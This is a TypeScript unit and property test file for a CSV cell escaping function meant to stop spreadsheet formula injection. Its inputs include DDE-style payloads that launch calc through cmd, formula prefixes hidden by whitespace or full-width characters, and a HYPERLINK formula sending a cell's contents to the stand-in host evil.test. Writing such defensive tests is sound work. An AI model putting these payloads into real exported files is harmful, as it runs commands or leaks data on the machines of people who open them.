/** Attack row A9. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvCell } from "./csv-cell.ts";

describe("a cell of a CSV table", () => {
  test.each([
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "\u00a0@SUM(1)",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.test/?x="&A1,"press")',
    "-",
    "--5",
    "-5 people",
  ])("%j is a text, with an apostrophe and in quotes", (text) => {
    const cell = csvCell(text);
    expect(cell).toBe(`"'${text.replaceAll('"', '""')}"`);
  });

  test.each(["-5", "+5", "-0.25", "-1e-7", "5", ".5", "-.5"])("%s stays a number", (text) => {
    expect(csvCell(text)).toBe(text);
    expect(csvCell(Number(text))).toBe(String(Number(text)));
  });

  test.each([
    ["plain", "plain"],
    ["two, parts", '"two, parts"'],
    ['a "word"', '"a ""word"""'],
    ["first;=1+1", '"first;=1+1"'],
    [undefined, ""],
  ])("%j is written as %s", (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  test("never begins, within its quotes, with what a spreadsheet runs, unless it is a number", () => {
    const hostile = fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", ""), fc.string())
      .map(([start, rest]) => start + rest);
    fc.assert(
      fc.property(hostile, (text) => {
        const written = csvCell(text);
        const content = written.replace(/^"/, "");
        expect(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(content) && Number.isNaN(Number(written))).toBe(false);
        // What a reader of RFC 4180 gets back is the text, or the text behind an apostrophe.
        const read = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
        expect([text, `'${text}`]).toContain(read);
      }),
      { seed: 9, numRuns: 2_000 },
    );
  });
});
